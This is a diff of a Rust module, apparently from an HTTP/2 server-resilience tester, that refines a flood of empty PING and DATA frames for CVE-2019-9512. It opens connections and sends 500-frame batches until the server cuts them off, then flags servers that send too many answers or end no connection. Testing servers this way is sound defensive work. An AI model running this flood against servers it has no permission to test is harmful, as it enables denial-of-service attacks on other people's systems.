@@ -1,10 +1,10 @@
 //! Frames that say nothing, as fast as the server takes them.
 
 use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
 
 use super::http2;
 use crate::attack::{Attack, Outcome, Round, Target};
-use crate::peer::Peer;
 use crate::wire;
 
 /// CVE-2019-9512.
@@ -41,36 +41,44 @@ pub(super) const EMPTY_FRAMES: Attack = Attack::new(
 
 /// Frames that go out together.
 const TOGETHER: usize = 500;
+/// Answers that a connection may have at most.
+const ANSWERS: u64 = 100_000;
 
 /// The frames of a kind that go out together, for an open stream.
 type Frames = fn(u32) -> Vec<u8>;
 
 async fn flood(target: Arc<Target>, frames: Frames) -> anyhow::Result<Outcome> {
     let mut outcome = Outcome::default();
+    let most = AtomicU64::new(0);
     target
         .again(&mut outcome, |_| async {
             let mut peer = http2(&target).await?;
             let stream = peer.call(&wire::ads()).await?;
+            // The head of a message that does not end.
+            peer.data(stream, &[0, 0, 15, 0, 0]).await?;
             let out = frames(stream);
+            let mut sent = 0;
             // What is sent counts if the server ends it.
-            let sent = until_over(&target, &mut peer, &out).await;
-            Ok(Round { sent, refused: 1 })
+            while target.goes_on() && !peer.told.is_over() && peer.send(&out).await.is_ok() {
+                sent += TOGETHER as u64;
+                most.fetch_max(peer.told.answers.load(Ordering::Relaxed), Ordering::Relaxed);
+                // Others of this process have a turn.
+                tokio::task::yield_now().await;
+            }
+            let refused = u64::from(peer.told.is_over() || target.goes_on());
+            Ok(Round { sent, refused })
         })
         .await;
+    let most = most.into_inner();
+    if most > ANSWERS {
+        outcome.broke(format!(
+            "{most} answers on one connection, more than {ANSWERS}"
+        ));
+    }
     if outcome.refused == 0 {
-        outcome.broke("a connection may send as many as it likes");
+        outcome.broke("no connection was ended");
     }
     Ok(outcome)
-}
-
-async fn until_over(target: &Target, peer: &mut Peer, out: &[u8]) -> u64 {
-    let mut sent = 0;
-    while target.goes_on() && !peer.told.is_over() && peer.send(out).await.is_ok() {
-        sent += TOGETHER as u64;
-        // Others of this process have a turn.
-        tokio::task::yield_now().await;
-    }
-    sent
 }
 
 fn pings(_: u32) -> Vec<u8> {
@@ -78,7 +86,6 @@ fn pings(_: u32) -> Vec<u8> {
 }
 
 fn octets(stream: u32) -> Vec<u8> {
-    // Less than a connection's window in all would end it; the first octets of a message are kept.
     let mut out = wire::frame(wire::DATA, 0, stream, &[0]);
     out.extend(wire::frame(wire::PING, 0, 0, &[0; 8]).repeat(TOGETHER - 1));
     out
